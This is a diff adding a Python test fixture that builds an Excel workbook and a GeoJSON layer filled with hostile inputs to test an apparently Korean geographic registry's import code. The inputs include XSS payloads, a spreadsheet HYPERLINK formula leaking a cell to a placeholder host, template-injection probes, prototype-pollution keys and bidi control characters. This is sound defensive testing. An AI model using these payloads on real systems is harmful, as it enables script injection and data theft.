@@ -1,0 +1,52 @@
+"""A programme and a file whose every field is made to do harm."""
+
+import json
+
+import openpyxl
+
+from geo.own.registry import prepare, register
+from geo.own.sheets import COLUMNS
+from geo.own.template import template
+
+RUNS = "<img src=x onerror=window.hit=1>"
+TEXTS = (
+    f"\"'>{RUNS}",
+    "</script><script>window.hit=1</script>",
+    '=HYPERLINK("http://a.example/?"&A1)',
+    "{{7*7}}${7*7}#{7*7}{0.__class__}",
+    "__proto__",
+    "\u202e가나다\u2066",
+)
+NAME = f"등줄기 {RUNS}"
+PLACES = (("본부", "전남", "여수국가"), ("지부", "경남", "창원국가"))
+
+
+def ill(folder):
+    """Make both below `folder`; return where programmes are registered, the file, the id."""
+    book = folder / "own.xlsx"
+    book.write_bytes(template("ko", ("전남", "경남")))
+    made = openpyxl.load_workbook(book)
+    programme, bodies, members = made.worksheets[1:]
+    filled = {"name": NAME, "name_en": TEXTS[1], "rule": "중심에서 나머지로", "root_role": "본부"}
+    for row, column in enumerate(COLUMNS["programme"], 2):
+        programme.cell(row, 2).value = filled.get(column.id)
+    for sheet in (bodies, members):
+        sheet.delete_rows(2, sheet.max_row)
+    for text in TEXTS:
+        for place in PLACES:
+            members.append([text, *place])
+            members.cell(members.max_row, 1).data_type = "s"
+    made.save(book)
+    (folder / "made").mkdir()
+    prepared, _ = prepare((book,), "", folder / "made")
+    registered = register(prepared, folder / "own")
+    names = (*TEXTS, "constructor", "toString", "hasOwnProperty", "length")
+    feature = {
+        "type": "Feature",
+        "id": "__proto__",
+        "geometry": {"type": "Point", "coordinates": [128.0, 36.0]},
+        "properties": {name: TEXTS[n % len(TEXTS)] for n, name in enumerate(names)},
+    }
+    layer = folder / "constructor.geojson"
+    layer.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}), "utf-8")
+    return folder / "own", layer, registered.name
